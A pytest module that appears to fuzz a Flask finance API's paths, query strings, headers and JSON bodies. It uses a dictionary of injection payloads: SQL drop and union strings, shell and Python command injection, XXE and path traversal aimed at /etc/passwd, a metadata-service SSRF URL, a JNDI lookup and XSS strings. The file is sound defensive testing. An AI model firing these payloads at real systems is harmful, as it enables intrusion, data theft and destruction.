"""Injection: strings of every kind in every parameter of every route do nothing but what a text does.

What there is to inject into is made from the routes, their contracts and the OpenAPI document, so a new parameter is
attacked as well; a new body needs an example.
"""

import io
import itertools
import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import quote

import pytest
from flask import Flask
from marshmallow import Schema
from people import PASSWORD, Person, another, first_user, signed_in
from serving import ENGINES, standing_app
from sqlalchemy import func, inspect, select
from werkzeug.routing import Rule

from cashman import current, door
from cashman.access import api_keys, members
from cashman.model.access import AccessHead, ApiKey, Member, User
from cashman.model.ledger import LedgerRecord
from cashman.verify import verify

SECRET = "CanaryOfAnotherUser"
NOBODYS = "01ARZ3NDEKTSV4RRFFQ69G5FAV"

PAYLOADS = {
    "sql: or": "' OR '1'='1",
    "sql: or, number": "1 OR 1=1",
    "sql: comment": "x'--",
    "sql: double quote": 'x" OR ""="',
    "sql: backslash": "\\' OR 1=1 -- ",
    "sql: stacked": "'; DROP TABLE transactions; --",
    "sql: stacked update": "1; UPDATE users SET admin = true; --",
    "sql: union": "' UNION SELECT password_hash FROM users --",
    "sql: cast": "1 AND 1=CAST((SELECT email FROM users LIMIT 1) AS int)",
    "sql: sleep": "'||(SELECT 1 FROM pg_sleep(30))||'",
    "sql: work": "'||(SELECT hex(randomblob(500000000)))||'",
    "sql: like": "%_%",
    "sql: dollar": "$$; SELECT 1; $$",
    "sql: parameters": ":id %(id)s ?1 $1 %s",
    "full text": '"a" OR NEAR(b c) * ^ -d col:e',
    "full text, postgresql": "a & (b | !c) <-> :*",
    "nosql": '{"$gt": ""}',
    "nosql: where": "'; return true; var a='",
    "ldap": "*)(uid=*))(|(uid=*",
    "xpath": "' or count(/*)=1 or 'a'='b",
    "shell": "; touch {marker} #",
    "shell: substitution": "$(touch {marker})`touch {marker}`",
    "shell: pipe": "| touch {marker}",
    "template": "{{1337*1337}}",
    "template: objects": "{{ config.items() }}{% raw %}${1337*1337}#{1337*1337}<%= 1337*1337 %>",
    "format": "{0.__class__.__init__.__globals__}{name!r:>99999999}",
    "percent": "%s%n%x%(name)s%",
    "python": "__import__('os').system('touch {marker}')",
    "html": "<script>alert(1)</script>",
    "html: attribute": "\"'><img src=x onerror=alert(1)>",
    "xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "crlf": "x\r\nX-Injected: yes\r\n\r\n<html>",
    "lf": "x\nX-Injected: yes",
    "nul": "x\x00y",
    "control characters": "\x01\x07\x08\x1b[2J\x7f\x85",
    "traversal": "../../../../etc/passwd",
    "traversal: encoded": "..%2f..%2f..%2fetc%2fpasswd%00",
    "traversal: windows": "..\\..\\..\\windows\\win.ini",
    "absolute": "/etc/passwd",
    "url": "http://192.0.2.1/latest/meta-data/",
    "log": "${jndi:ldap://192.0.2.1/a}",
    "slashes": "////",
    "csv": "=cmd|' /C calc'!A0",
    "empty": "",
    "blank": " ",
    "direction": "\u202eabc\u2066\u200b\ufeff",
    "combining": "Z\u0351\u036b" * 20,
    "casing": "\u0130\u0131\u017f\u212a\ufb03\u00df",
    "not a character": "\ufffe\uffff\U0010ffff",
    "digits of other scripts": "\u0661\u0662\u0663\uff11\u00b2\u2460",
    "half of a pair": "a\ud800b",
    "halves in the wrong order": "\udc00\ud800",
    "emoji": "\U0001f355" * 10,
    "number": "9" * 40,
    "exponent": "1e999999",
    "not a number": "NaN",
    "negative": "-1",
    "null": "null",
    "huge": "A" * 8_000,
    "huge of many bytes": "\U0001f355" * 1_500,
}
TYPES: dict[str, Any] = {
    "null": None,
    "true": True,
    "a list": [],
    "an object": {},
    "an operator": {"$gt": ""},
    "a list of lists": [[[["x"]]]],
    "a huge number": 10**400,
    "a tiny number": 1e-320,
    "a negative number": -1,
    "prototype": {"__proto__": {"admin": True}, "constructor": {}},
    "a long list": ["x"] * 1_000,
}
MEMBER_NAMES = (
    "__proto__",
    "__class__",
    "constructor",
    "$where",
    "admin\x00",
    "id; DROP TABLE users",
    "a\ud800",
    "x" * 500,
)

HEADERS = (
    "If-Match",
    "If-None-Match",
    "Prefer",
    "Accept-Language",
    "Accept",
    "Origin",
    "Cookie",
    "Referer",
    "User-Agent",
    "X-Forwarded-For",
    "X-Forwarded-Proto",
    "X-Forwarded-Host",
    "Range",
    "X-HTTP-Method-Override",
)
"""Sent together, since none keeps another from being read; those that do are sent alone."""
ALONE = ("Authorization", "Idempotency-Key", "Host", "Content-Type", "Accept-Encoding")

_numbers = itertools.count(1)

BODIES: dict[str, Callable[["Books"], dict[str, Any]]] = {
    "Income": lambda books: {"description": "x", "amount": 1},
    "Expense": lambda books: {"description": "x", "amount": 1},
    "Transaction": lambda books: {"description": "x", "amount": 1, "type": "EXPENSE"},
    "Revision": lambda books: {"description": "x", "amount": -1, "date": "2026-01-02"},
    "Transfer": lambda books: {"amount": 1, "from": "main", "to": "savings"},
    "TransferRevision": lambda books: {"amount": 1, "from": "main", "to": "savings", "date": "2026-01-02"},
    "Account": lambda books: {"name": f"account {next(_numbers)}", "currency": "USD"},
    "AccountRevision": lambda books: {"name": f"account {next(_numbers)}"},
    "Move": lambda books: {"from": "Food", "to": f"Food{next(_numbers)}"},
    "LedgerPatch": lambda books: {"closed_until": None},
    "SharedLedger": lambda books: {"name": "another"},
    "LedgerName": lambda books: {"name": "another name"},
    "Member": lambda books: {"role": "viewer"},
    "NewUser": lambda books: {"email": f"u{next(_numbers)}@example.com", "password": PASSWORD},
    "UserRevision": lambda books: {"email": f"u{next(_numbers)}@example.com"},
    "Credentials": lambda books: {"email": f"u{next(_numbers)}@example.com", "password": PASSWORD},
    "Refresh": lambda books: {"refresh_token": "x.y.z"},
    "ApiKey": lambda books: {"name": "key", "scope": "read"},
    "Mapping": lambda books: {"columns": {"date": 1, "amount": 2}},
}


class Answer(NamedTuple):
    """What a request was answered."""

    status: int
    headers: list[tuple[str, str]]
    body: bytes

    @property
    def media_type(self) -> str:
        """Without its parameters."""
        return next((value for name, value in self.headers if name == "Content-Type"), "").partition(";")[0]


@dataclass(frozen=True)
class Operation:
    """A method of a route."""

    method: str
    rule: Rule
    query: tuple[str, ...]
    body: type[Schema] | None
    many: bool
    takes_file: bool = False
    """Whether its body is a file, whose own tests attack what is in it."""

    @property
    def name(self) -> str:
        """As a failure calls it."""
        return f"{self.method} {self.rule.rule}"

    @property
    def members(self) -> tuple[str, ...]:
        """The members of the body."""
        if self.body is None:
            return ()
        return tuple(one.data_key or name for name, one in self.body().load_fields.items())

    def document(self, books: "Books") -> dict[str, Any]:
        """A body that is taken."""
        assert self.body is not None
        return BODIES[self.body.__name__.removesuffix("Schema")](books)


def operations(app: Flask) -> list[Operation]:
    """Every method of every route."""
    found = []
    for rule in sorted(app.url_map.iter_rules(), key=lambda rule: rule.rule):
        terms = app.view_functions[rule.endpoint].contract  # type: ignore[attr-defined]
        query = tuple((one.data_key or name) for name, one in terms.query().load_fields.items()) if terms.query else ()
        file = isinstance(terms.body, dict)
        body = terms.body if terms.body is None or isinstance(terms.body, type) else type(terms.body)
        body = None if file else body
        for method in sorted((rule.methods or set()) - {"HEAD", "OPTIONS"}):
            found.append(Operation(method, rule, query, body if method != "GET" else None, terms.many, file))
    return found


def is_of_a_named_ledger(operation: Operation) -> bool:
    """Whether it is the same route once more, with the ledger in its path."""
    return operation.rule.endpoint.startswith("of_a_named_ledger.") or operation.rule.rule.count("ledger_ulid") == 1


@dataclass
class Books:
    """A service with books, users and whatever else a path can name."""

    app: Flask
    owner: Person
    other: Person
    marker: Path
    engine: str
    ids: dict[str, str] = field(default_factory=dict)
    peers: Iterator[int] = field(default_factory=lambda: itertools.count(1))

    def call(
        self,
        method: str,
        path: str,
        query: str = "",
        headers: dict[str, str] | None = None,
        body: bytes | None = None,
        *,
        known: bool = True,
    ) -> Answer:
        """Make a request as the server would hand it on: whatever is in it, and each from an address of its own."""
        number = next(self.peers)
        environ: dict[str, Any] = {
            "REQUEST_METHOD": method,
            "SCRIPT_NAME": "",
            "PATH_INFO": path,
            "QUERY_STRING": query,
            "SERVER_NAME": "localhost",
            "SERVER_PORT": "5000",
            "SERVER_PROTOCOL": "HTTP/1.1",
            "REMOTE_ADDR": f"10.{number >> 16 & 255}.{number >> 8 & 255}.{number & 255}",
            "HTTP_HOST": "localhost:5000",
            "wsgi.version": (1, 0),
            "wsgi.url_scheme": "http",
            "wsgi.input": io.BytesIO(body or b""),
            "wsgi.errors": io.StringIO(),
            "wsgi.multithread": True,
            "wsgi.multiprocess": True,
            "wsgi.run_once": False,
        }
        if body is not None:
            environ |= {"CONTENT_TYPE": "application/json", "CONTENT_LENGTH": str(len(body))}
        if known:
            environ["HTTP_AUTHORIZATION"] = f"Bearer {self.owner.token}"
        for name, value in (headers or {}).items():
            key = name.upper().replace("-", "_")
            environ[key if key == "CONTENT_TYPE" else f"HTTP_{key}"] = value
        said: list[Any] = []
        answer = self.app.wsgi_app(environ, lambda *given: said.append(given) or (lambda _: None))  # type: ignore[func-returns-value]
        body_given = b"".join(answer)
        if hasattr(answer, "close"):
            answer.close()
        status, sent = said[-1][0], said[-1][1]
        return Answer(int(status.partition(" ")[0]), sent, body_given)

    def path_of(self, operation: Operation, **instead: str) -> str:
        """The path of something that is there; an operation that takes it away gets a new one each time."""
        values = {**self.ids, **instead}
        kind = operation.rule.rule.rpartition("/<")[0].rpartition("/")[2] or "problems"
        path = operation.rule.rule
        for argument in operation.rule.arguments:
            value = instead.get(argument) or self.ids.get(f"{kind}/{argument}") or values[argument]
            path = re.sub(rf"<([^:>]*:)?{argument}>", lambda _, value=value: value, path)
        return path

    def ask(self, operation: Operation, path: str, *arguments: Any, known: bool) -> Answer:
        """Make a request of an operation; what it takes away is made anew."""
        answer = self.call(operation.method, path, *arguments, known=known)
        if known and operation.method == "DELETE" and answer.status == 204:
            if operation.rule.arguments:
                self._make_all(only=operation.rule.rule)
            else:
                self.owner = signed_in(self.app.test_client(), self.owner.user)
        return answer

    def _make_all(self, only: str | None = None) -> None:
        """Something of every kind that a path can name."""
        made = {
            "incomes": ("/incomes", {"description": "in", "amount": 1}),
            "expenses": ("/expenses", {"description": "out", "amount": 1, "category": "Food", "tags": ["t"]}),
            "transactions": ("/transactions", {"description": "any", "amount": 1, "type": "EXPENSE"}),
            "transfers": ("/transfers", {"amount": 1, "from": "main", "to": "savings"}),
            "accounts": ("/accounts", {"name": f"account {next(_numbers)}"}),
            "users": ("/users", {"email": f"v{next(_numbers)}@example.com", "password": PASSWORD}),
            "api-keys": ("/api-keys", {"name": "key", "scope": "read"}),
        }
        for kind, (path, document) in made.items():
            if only is not None and f"/{kind}/" not in only:
                continue
            answer = self.call("POST", path, body=json.dumps(document).encode())
            assert answer.status in (201, 204), answer.body
            location = dict(answer.headers)["Location"]
            self.ids[f"{kind}/{'account_id' if kind == 'accounts' else 'id'}"] = location.rpartition("/")[2]
        self.ids["members/id"] = self.ids["users/id"]
        if only is None or "/mappings/" in only:
            self.call("PUT", "/import/mappings/kept", body=b'{"columns": {"date": 1, "amount": 2}}')

    def begin(self) -> None:
        """Fill the books."""
        self.ids |= {
            "ledger_ulid": self.owner.ledger,
            "slug": "not-found",
            "release": "1",
            "file": "page.css",
            "id": NOBODYS,
            "account_id": "1",
        }
        self.ids |= {"format_name": "csv", "name": "kept"}
        self.call("POST", "/accounts", body=b'{"name": "savings"}')
        self._make_all()

    def payload(self, name: str) -> str:
        """A string to inject."""
        return PAYLOADS[name].replace("{marker}", str(self.marker))


@pytest.fixture(scope="module", params=ENGINES)
def books(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Books]:
    """One service for all of them; and at the end everything is as it would be without."""
    folder = tmp_path_factory.mktemp("standing")
    with standing_app(request.param, request, folder) as app, pytest.MonkeyPatch.context() as patch:
        patch.setattr(api_keys, "API_KEYS_MAX", 10**6)
        patch.setattr(members, "LEDGERS_MAX", 10**6)
        client = app.test_client()
        owner = first_user(client, "owner@example.com")
        other = another(owner, "other@example.com")
        assert other.post("/expenses", {"description": SECRET, "amount": 1}).status_code == 204
        made = Books(app, owner, other, folder / "marker", request.param)
        made.begin()
        yield made
        check_afterwards(made)


def names_for(books: Books, place: int) -> list[str]:
    """Every string on SQLite; on PostgreSQL a fifth of them, another fifth at each place."""
    names = list(PAYLOADS)
    return names if books.engine == "sqlite" else names[place % 5 :: 5]


def fewer(books: Books, place: int, operation: Operation) -> list[str]:
    """The same, and a third of them for each of three resources that share their code."""
    names = names_for(books, place)
    if operation.rule.rule.split("/")[1] in ("incomes", "expenses", "transactions") and books.engine == "sqlite":
        return names[place % 3 :: 3] if len(names) == len(PAYLOADS) else names
    return names


def wire(text: str) -> str:
    """A text as WSGI has it: its bytes, each as one character."""
    return text.encode(errors="surrogatepass").decode("latin-1")


def quoted(text: str) -> str:
    return quote(text, safe="", errors="surrogatepass")


def fault_of(answer: Answer, sent: str = "", *, of_page: bool = False) -> str | None:
    """What is wrong with an answer; a page says itself what is wrong with its form."""
    if answer.status >= 500:
        return f"{answer.status}"
    for name, value in answer.headers:
        if re.search("[^ -~\t]", name + value) or name.lower() == "x-injected":
            return f"the header {name} is {value!r}"
    told_by_page = of_page and answer.status == 422 and answer.media_type == "text/html"
    if answer.status >= 400 and answer.media_type != "application/problem+json" and not told_by_page:
        return f"{answer.status} in {answer.media_type}"
    return _told_too_much(answer, sent) or _fault_of_document(answer)


def _told_too_much(answer: Answer, sent: str) -> str | None:
    if answer.media_type == "text/html" and "<" in sent and sent.encode(errors="replace") in answer.body:
        return "what was sent stands in the page"
    for told in ("1787569", "argon2", SECRET, "Traceback", "sqlalchemy", "psycopg", "sqlite3", "root:x:"):
        if told.encode() in answer.body and told not in sent:
            return f"{told!r} is told"
    return None


def _fault_of_document(answer: Answer) -> str | None:
    if not answer.body or answer.media_type not in ("application/json", "application/problem+json"):
        return None
    try:
        document = json.loads(answer.body)
    except ValueError:
        return "the document is none"
    if answer.status >= 400 and document["status"] != answer.status:
        return "another status in the document"
    return None


class Faults(list[str]):
    """What was wrong, of many answers."""

    def note(self, answer: Answer, sent: str, *what: object) -> None:
        """Look at an answer."""
        asked = " ".join(map(str, what))
        fault = fault_of(answer, sent, of_page="/pages/" in asked)
        if fault is not None:
            self.append(f"{asked}: {fault}")


def attack_paths(books: Books, place: int, operation: Operation, known: bool, faults: Faults) -> int:
    count = 0
    for number, argument in enumerate(sorted(operation.rule.arguments)):
        for name in names_for(books, place + number):
            sent = books.payload(name)
            for path in (books.path_of(operation, **{argument: wire(sent)}), books.path_of(operation) + wire(sent)):
                answer = books.ask(operation, path, known=known)
                faults.note(answer, sent, operation.name, argument, name)
                count += 1
    return count


def attack_query(books: Books, place: int, operation: Operation, known: bool, faults: Faults) -> int:
    count = 0
    for number, parameter in enumerate((*operation.query, "unknown")):
        for name in fewer(books, place + number, operation):
            sent = books.payload(name)
            queries = [f"{parameter}={quoted(sent)}"]
            if parameter == "unknown":
                queries = [f"{quoted(sent)}=1", wire(sent)]
            for query in queries:
                answer = books.ask(operation, books.path_of(operation), query, known=known)
                faults.note(answer, sent, operation.name, parameter, name)
                count += 1
    return count


def attack_headers(books: Books, place: int, operation: Operation, known: bool, faults: Faults) -> int:
    count = 0
    body = None if operation.body is None else json.dumps(operation.document(books)).encode()
    for number, headers in enumerate((HEADERS, *((header,) for header in ALONE))):
        # The same code reads them for every route, so each route gets some of the strings.
        names = names_for(books, place + number)
        step = 2 if books.engine == "postgresql" else 6
        for name in names if names == some_names(books, place + number) else names[place % step :: step]:
            sent = books.payload(name)
            for form in ("{}", "Bearer {}") if headers == ("Authorization",) else ("{}",):
                given = {header: wire(form.format(sent)) for header in headers}
                answer = books.ask(operation, books.path_of(operation), "", given, body, known=known)
                faults.note(answer, sent, operation.name, headers[0], name)
                count += 1
    return count


def attack_members(books: Books, place: int, operation: Operation, known: bool, faults: Faults) -> int:
    count = 0
    path = books.path_of(operation)

    def send(document: Any, sent: str, *what: object) -> None:
        nonlocal count
        body = json.dumps([document] if operation.many else document).encode()
        faults.note(books.ask(operation, path, "", None, body, known=known), sent, operation.name, *what)
        count += 1

    for number, member in enumerate(operation.members):
        for name in fewer(books, place + number, operation):
            sent = books.payload(name)
            send({**operation.document(books), member: sent}, sent, member, name)
        step = 2 if books.engine == "sqlite" else 5
        for name in list(TYPES)[(place + number) % step :: step]:
            send({**operation.document(books), member: TYPES[name]}, "", member, name)
    if operation.body is not None:
        for name in MEMBER_NAMES:
            send({**operation.document(books), name: "x"}, "", name)
        for value in (*TYPES.values(), "x"):
            send(value, "", value)
    return count


ATTACKS = {"paths": attack_paths, "query": attack_query, "headers": attack_headers, "members": attack_members}


@pytest.mark.slow
@pytest.mark.parametrize("attack", ATTACKS)
def test_whatever_an_owner_sends_in_any_parameter_does_nothing_but_what_a_text_does(books: Books, attack: str) -> None:
    faults, count = Faults(), 0
    for place, operation in enumerate(operations(books.app)):
        if is_of_a_named_ledger(operation) and attack != "paths":
            continue  # the same views; below
        assert books.call("GET", "/ledger").status == 200, "or the rest would be refused, whatever it is"
        count += ATTACKS[attack](books, place, operation, True, faults)
    assert faults[:20] == []
    assert count > 300


@pytest.mark.slow
@pytest.mark.parametrize("attack", ATTACKS)
def test_the_same_by_the_routes_of_a_ledger_that_the_path_names(
    books: Books, attack: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("test_injection.names_for", some_names)
    monkeypatch.setattr("test_injection.TYPES", {"an operator": {"$gt": ""}})
    faults, count = Faults(), 0
    for place, operation in enumerate(operations(books.app)):
        if is_of_a_named_ledger(operation):
            count += ATTACKS[attack](books, place, operation, True, faults)
    assert faults[:20] == []
    assert count > 50


@pytest.mark.slow
@pytest.mark.parametrize("attack", ATTACKS)
def test_whatever_nobody_sends_is_refused_or_for_everybody(
    books: Books, attack: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    for_everybody = {
        operation.name
        for operation in operations(books.app)
        if door.needs_of(books.app.view_functions[operation.rule.endpoint], operation.method) == "anyone"
    }
    faults, count = Faults(), 0
    few = [some_names, names_for]
    for place, operation in enumerate(operations(books.app)):
        public = operation.name in for_everybody
        monkeypatch.setattr("test_injection.names_for", few[public])
        before = len(faults)
        count += ATTACKS[attack](books, place, operation, False, Refusing(faults, public, attack))
        assert len(faults) == before, faults[before:][:20]
    assert count > 500


class Refusing(Faults):
    """What was wrong, where besides nothing may have been let in."""

    def __init__(self, faults: Faults, public: bool, attack: str) -> None:
        super().__init__()
        self._faults, self._public = faults, public
        self._refusals = {"paths": (401, 404, 405), "headers": (400, 401)}.get(attack, (401,))

    def note(self, answer: Answer, sent: str, *what: object) -> None:
        self._faults.note(answer, sent, *what)
        if not self._public and answer.status not in self._refusals:
            self._faults.append(f"{what}: {answer.status}")


def some_names(books: Books, place: int) -> list[str]:
    """A few strings, others at each place."""
    step = 12 if books.engine == "sqlite" else 24
    return list(PAYLOADS)[place % step :: step]


def check_afterwards(books: Books) -> None:
    """After all that these tests do: the books are sound, and nobody has become anybody."""
    assert not books.marker.exists(), "no command was run"
    app = books.app
    database = current.books(app).database
    tables = set(inspect(engine_of(database)).get_table_names())
    assert {"transactions", "users", "ledgers", "journal"} <= tables

    def read(connection: Any) -> tuple[Any, ...]:
        others = connection.execute(select(User.admin).where(User.email_key == "other@example.com")).scalar_one()
        founded = connection.execute(select(AccessHead.founded)).scalar_one()
        foreign_keys = connection.execute(select(func.count()).where(ApiKey.user_id == books.other.id)).scalar_one()
        own = select(Member.ledger_id).join(LedgerRecord, LedgerRecord.id == Member.ledger_id)
        shared = connection.execute(
            own.where(LedgerRecord.ulid == books.other.ledger, Member.principal != books.other.id)
        ).all()
        return others, founded, foreign_keys, shared

    assert database.read(read) == (False, True, 0, [])
    assert [row["description"] for row in books.other.get("/expenses").json] == [SECRET]
    assert books.owner.get(f"/ledgers/{books.other.ledger}").status_code == 404
    assert {books.owner.ledger, books.other.ledger} <= {verified.ledger for verified in verify(database)}


def engine_of(database: Any) -> Any:
    """An engine of the database."""
    from sqlalchemy import Engine

    return next(value for value in vars(database).values() if isinstance(value, Engine))


def test_every_parameter_of_the_openapi_document_is_attacked(books: Books) -> None:
    document = json.loads(books.call("GET", "/openapi.json").body)
    attacked = {}
    for operation in operations(books.app):
        path = re.sub(r"<(?:[^:>]*:)?(\w+)>", r"{\1}", operation.rule.rule)
        parameters = {*operation.query, *operation.rule.arguments, *HEADERS, *ALONE}
        attacked[(operation.method.lower(), path)] = parameters, operation.body is not None or operation.takes_file
    count = 0
    for path, methods in document["paths"].items():
        for method, described in methods.items():
            parameters, body = attacked[(method, path)]
            assert {parameter["name"] for parameter in described["parameters"]} <= parameters
            assert ("requestBody" in described) == body
            count += 1
    assert count > 70


def test_what_is_wrong_with_an_answer_would_be_seen(books: Books) -> None:
    """The control of all of the above."""

    def answer(status: int = 200, body: bytes = b"{}", media_type: str = "application/json", **headers: str) -> Answer:
        return Answer(status, [("Content-Type", media_type), *headers.items()], body)

    assert fault_of(answer()) is None
    assert fault_of(answer(404, b'{"status": 404}', "application/problem+json")) is None
    form = answer(422, b"<form>", "text/html")
    assert (fault_of(form, of_page=True), fault_of(form)) == (None, "422 in text/html")
    for wrong in (
        answer(500),
        answer(503),
        answer(404, b"<h1>Not Found</h1>", "text/html"),
        answer(404, b'{"status": 400}', "application/problem+json"),
        answer(Location="/x\r\nX-Injected: yes"),
        answer(**{"X-Injected": "yes"}),
        answer(Location="/\u00e9"),
        answer(200, b"1787569"),
        answer(200, f'["{SECRET}"]'.encode()),
        answer(200, b"$argon2id$"),
    ):
        assert fault_of(wrong, "{{1337*1337}}") is not None, wrong
    assert fault_of(answer(200, b"<script>alert(1)</script>", "text/html"), "<script>alert(1)</script>") is not None
